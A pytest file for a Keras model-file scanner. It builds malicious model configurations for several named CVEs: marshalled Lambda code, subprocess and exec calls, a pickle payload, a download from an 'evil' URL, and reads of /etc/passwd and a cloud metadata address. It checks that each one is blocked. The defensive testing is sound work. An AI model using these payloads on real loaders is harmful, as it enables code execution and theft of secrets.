"""Public ways around the safe mode of Keras: none of them is clean, none loads, and nothing of them runs.

No rule is written for one of them: a configuration may name what is on the list of built-ins, and nothing else.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import pickle
import zipfile
from typing import TYPE_CHECKING, Any

import numpy as np
import pytest

import safeload
from safeload.findings import Verdict

if TYPE_CHECKING:
    from pathlib import Path

h5py = pytest.importorskip("h5py")


def _sequential(*layers: dict[str, Any]) -> dict[str, Any]:
    first = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 3]},
        "registered_name": None,
    }
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "m", "layers": [first, *layers]},
        "registered_name": None,
    }


def _keras(config: Any, **assets: bytes) -> bytes:
    weights, target = io.BytesIO(), io.BytesIO()
    with h5py.File(weights, "w") as file:
        file["layers/dense/vars/0"] = np.zeros(3)
    with zipfile.ZipFile(target, "w") as archive:
        archive.writestr("metadata.json", '{"keras_version": "3.8.0"}')
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights.getvalue())
        for name, data in assets.items():
            archive.writestr(f"assets/{name}", data)
    return target.getvalue()


def _legacy(config: Any) -> bytes:
    target = io.BytesIO()
    with h5py.File(target, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        file.create_group("model_weights").attrs["layer_names"] = np.array([b"x"])
    return target.getvalue()


def _stopped(artifact: bytes, marker: Path, verdict: Verdict = Verdict.UNKNOWN, **options: Any) -> None:
    assert safeload.scan(artifact).verdict is verdict
    for more in ({}, {"arrays": "numpy"}):
        with pytest.raises(safeload.PolicyError):
            safeload.loads(artifact, **more, **options)
    assert not marker.exists()


def _code(marker: Path) -> str:
    function = compile(f"(lambda x: __import__('pathlib').Path({str(marker)!r}).touch())", "x", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(function)).decode()


@pytest.mark.parametrize("write", [_keras, _legacy])
def test_cve_2024_3660_lambda_with_code(write: Any, marker: Path) -> None:
    """CVE-2024-3660: a Lambda layer's function is marshalled code in the configuration, run when the model is built."""
    old = {"class_name": "Lambda", "config": {"function": [_code(marker), None, None], "function_type": "lambda"}}
    new = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"function": {"class_name": "__lambda__", "config": {"code": _code(marker), "defaults": None, "closure": None}}},
    }  # fmt: skip
    _stopped(write(_sequential(old)), marker, Verdict.MALICIOUS)
    _stopped(write(_sequential(new)), marker, Verdict.MALICIOUS)


def test_cve_2025_1550_any_module_any_function(marker: Path) -> None:
    """CVE-2025-1550: module and function of the configuration were imported and called with arguments of the configuration."""
    layer = {
        "module": "keras.layers", "class_name": "Dense", "registered_name": None,
        "config": {"units": {"module": "subprocess", "class_name": "function", "config": "run", "registered_name": "run"}},
        "inbound_nodes": [{"args": [["touch", str(marker)]], "kwargs": {}}],
    }  # fmt: skip
    _stopped(_keras(_sequential(layer)), marker, Verdict.MALICIOUS)
    called = {
        "module": "builtins",
        "class_name": "exec",
        "config": {"source": f"open({str(marker)!r}, 'w')"},
        "registered_name": None,
    }
    _stopped(_keras(called), marker, Verdict.MALICIOUS)


def test_cve_2025_8747_functions_of_keras_itself(marker: Path) -> None:
    """CVE-2025-8747: only modules of Keras were left, and ``get_file`` in one of them downloads and unpacks what it is told."""
    layer = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {
            "function": {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"},
            "arguments": {"origin": "https://example.org/evil.tar.gz", "extract": True, "cache_dir": str(marker.parent)},
        },
    }  # fmt: skip
    _stopped(_keras(_sequential(layer)), marker)
    report = safeload.scan(_keras(_sequential(layer)))
    assert {"keras.object", "keras.address", "keras.file"} <= {finding.rule_id for finding in report.findings}


def test_cve_2025_9905_safe_mode_ignored_for_hdf5(marker: Path) -> None:
    """CVE-2025-9905: the safe mode did not apply to models in HDF5, whatever they were called."""
    layer = {
        "class_name": "Lambda",
        "config": {"name": "l", "function": [_code(marker) + "\n", None, None], "function_type": "lambda"},
    }
    _stopped(_legacy(_sequential(layer)), marker, Verdict.MALICIOUS)
    _stopped(_legacy({"class_name": "Model", "config": {"layers": [layer]}}), marker, Verdict.MALICIOUS)


def test_cve_2025_9906_switches_safe_mode_off(marker: Path) -> None:
    """CVE-2025-9906: the configuration first called ``enable_unsafe_deserialization``, and brought its code behind it."""
    off = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"function": {
            "module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization", "registered_name": None,
        }},
    }  # fmt: skip
    code = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": {"class_name": "__lambda__", "config": {"value": [_code(marker)]}}},
    }
    _stopped(_keras(_sequential(off)), marker)
    _stopped(_keras(_sequential(off, code)), marker, Verdict.MALICIOUS)
    nested = {
        "module": "keras.layers", "class_name": "Lambda", "registered_name": None,
        "config": {"function": {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": "function"},
                   "arguments": {"safe_mode": False}},
        "inbound_nodes": [{"args": [], "kwargs": {"inputs": "assets/inner.keras"}}],
    }  # fmt: skip
    _stopped(_keras(_sequential(nested), **{"inner.keras": _keras(_sequential(code))}), marker, Verdict.MALICIOUS)


def test_cve_2025_49655_torch_module_wrapper(marker: Path) -> None:
    """CVE-2025-49655: a TorchModuleWrapper's configuration is a pickle, which ``torch.load`` unpickles."""

    class Boom:
        def __reduce__(self) -> Any:
            return marker.touch, ()

    module = base64.b64encode(pickle.dumps(Boom())).decode()
    layer = {
        "module": "keras.layers",
        "class_name": "TorchModuleWrapper",
        "config": {"module": module},
        "registered_name": None,
    }
    _stopped(_keras(_sequential(layer)), marker)
    assert "keras.pickled" in {finding.rule_id for finding in safeload.scan(_keras(_sequential(layer))).findings}


def test_cve_2026_1462_tfsm_layer(marker: Path) -> None:
    """CVE-2026-1462: a TFSMLayer loads a SavedModel, which is code, from the path in its configuration."""
    layer = {
        "module": "keras.layers", "class_name": "TFSMLayer", "registered_name": None,
        "config": {"filepath": "/tmp/attacker_model", "call_endpoint": "serve"},
    }  # fmt: skip
    _stopped(_keras(_sequential(layer)), marker)
    _stopped(_keras(_sequential({**layer, "class_name": "Dense"})), marker)


def test_cve_2025_12058_vocabulary_from_a_path(marker: Path) -> None:
    """CVE-2025-12058: a StringLookup reads its vocabulary from any path or address."""
    for vocabulary in ("/etc/passwd", "http://169.254.169.254/latest/meta-data", "words.txt"):
        layer = {
            "module": "keras.layers",
            "class_name": "StringLookup",
            "config": {"vocabulary": vocabulary},
            "registered_name": None,
        }
        _stopped(_keras(_sequential(layer)), marker)


def test_an_allowed_name_registered_as_something_else(marker: Path) -> None:
    """Keras looks a registered name up first: an innocent class name does not cover another registered one."""
    layer = {"module": "keras.layers", "class_name": "Dense", "registered_name": "os>system", "config": {"units": 1}}
    _stopped(_keras(_sequential(layer)), marker)


def test_config_that_parsers_read_differently(marker: Path) -> None:
    """A key that stands twice is one thing to one parser and another to the next."""
    text = json.dumps(_sequential({"class_name": "Dense", "config": {}}))
    twice = text.replace('"class_name": "Dense"', '"class_name": "Lambda", "class_name": "Dense"')
    data = _keras(0).replace(b"0", b"0")
    target = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(target, "w") as archive:
        for name in source.namelist():
            archive.writestr(name, twice if name == "config.json" else source.read(name))
    assert safeload.scan(target.getvalue()).verdict is Verdict.MALFORMED
    with pytest.raises(safeload.FormatError):
        safeload.loads(target.getvalue())
    assert not marker.exists()


def test_a_text_that_takes_its_time(isolated: Any) -> None:
    """What may be base64 is looked at in linear time: spaces up to a wrong character at the end took hours."""
    layer = {"module": "keras.layers", "class_name": "Dense", "config": {"name": "A" * 40 + " " * 1_000_000 + "!"}}
    assert isolated(_keras(_sequential(layer)), scan=True).code == "clean"


def test_code_in_other_layers_than_lambda(marker: Path) -> None:
    """The Merge layer of Keras 1 had a mode that was marshalled code, not in base64, or the name of a function."""
    code = marshal.dumps(compile(f"open({str(marker)!r}, 'w')", "x", "exec")).decode("latin-1")
    brought = {"class_name": "Merge", "config": {"mode": [code, None, None], "mode_type": "lambda"}}
    named = {"class_name": "Merge", "config": {"mode": "system", "mode_type": "function"}}
    _stopped(_legacy(_sequential(brought)), marker, Verdict.MALICIOUS)
    _stopped(_legacy(_sequential(named)), marker)
    plain = {"class_name": "Merge", "config": {"mode": "concat", "mode_type": "raw"}}
    assert safeload.scan(_legacy(_sequential(plain))).verdict is Verdict.CLEAN


def test_names_of_old_data_are_no_way_to_classes(marker: Path) -> None:
    """``TensorShape`` with a configuration is looked up like any class, by its registered name first."""
    shape = {"class_name": "TensorShape", "items": [None, 3]}
    assert safeload.scan(_keras(_sequential({"class_name": "Dense", "config": {"s": shape}}))).verdict is Verdict.CLEAN
    for name in ("TensorShape", "__tuple__"):
        evil = {"class_name": name, "module": "os", "registered_name": "app>Evil", "config": {}}
        _stopped(_keras(_sequential(evil)), marker, Verdict.MALICIOUS)


def test_a_vocabulary_in_the_model_is_no_file() -> None:
    """A list of words is part of the model; a text is the name of a file."""
    layer = {"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": ["a", "file"]}}
    assert safeload.scan(_keras(_sequential(layer))).verdict is Verdict.CLEAN


@pytest.mark.parametrize("write", [_keras, _legacy])
def test_names_that_run_code_are_evidence_of_harm(write: Any, marker: Path) -> None:
    """A configuration that names ``os.system`` or ``exec`` is called malicious, as a pickle that names them is."""
    evil = {"module": "builtins", "class_name": "exec", "config": {"code": "1"}, "registered_name": "exec"}
    nested = {"class_name": "Dense", "config": {"units": 1, "kernel_initializer": evil}}
    lambda_ = {"class_name": "Lambda", "config": {"function": "system", "module": "os", "function_type": "function"}}
    for layer in (nested, lambda_):
        _stopped(write(_sequential(layer)), marker, Verdict.MALICIOUS)
    own = {"class_name": "Lambda", "config": {"function": "scale", "module": "myapp", "function_type": "function"}}
    _stopped(write(_sequential(own)), marker)
